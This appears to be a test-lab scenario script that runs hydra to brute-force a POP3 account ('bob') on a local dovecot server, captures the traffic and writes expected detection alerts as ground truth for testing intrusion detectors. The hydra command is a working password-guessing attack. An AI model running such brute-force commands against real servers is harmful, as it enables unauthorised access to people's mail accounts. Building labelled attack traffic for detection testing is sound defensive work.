#!/usr/bin/env bash
# bruteforce-pop3: hydra (4 tasks) guesses bob's POP3 password with USER/PASS on dovecot:
# 30 wrong passwords, then the right one.
# requires: hydra:hydra dovecot:dovecot-pop3d
source "$(dirname "$0")/../lab.sh"
lab_start "$@"
lab_server pop3
lab_host attacker "$ATTACKER"
{ lab_wordlist 30; echo "${LAB_PASS[bob]}"; } > "$LAB_DIR/passwords.txt"

lab_capture_start
lab_exec attacker hydra -I -t 4 -f -l bob -P "$LAB_DIR/passwords.txt" "pop3://$SERVER/CLEAR" > "$LAB_DIR/hydra.log" 2>&1
lab_capture_stop
grep -q 'login: bob' "$LAB_DIR/hydra.log" || lab_die "hydra did not find the password: $(grep -v "password:" "$LAB_DIR/hydra.log")"

lab_truth <<JSON
{
  "scenario": "bruteforce-pop3",
  "description": "hydra brute-forces bob's POP3 password (USER/PASS): 30 failures then success",
  "hosts": { "attacker": "$ATTACKER", "server": "$SERVER" },
  "attacker": "$ATTACKER",
  "victim": "$SERVER",
  "protocol": "pop3",
  "facts": { "attempts": 31, "failedLogins": 30, "successfulLogins": 1, "users": ["bob"], "compromisedUser": "bob" },
  "alerts": [
    { "type": "brute_force_failure", "src": "$ATTACKER", "dst": "$SERVER", "dstPort": 110 },
    { "type": "brute_force_success", "src": "$ATTACKER", "dst": "$SERVER", "dstPort": 110 },
    { "type": "plaintext_password", "src": "$ATTACKER", "dst": "$SERVER", "dstPort": 110 }
  ],
  "maxSeverity": null,
  "checks": [
    { "name": "PASS", "filter": "pop.request.command == \"PASS\"", "count": 31 },
    { "name": "-ERR", "filter": "pop.response.indicator == \"-ERR\"", "count": 30 }
  ]
}
JSON
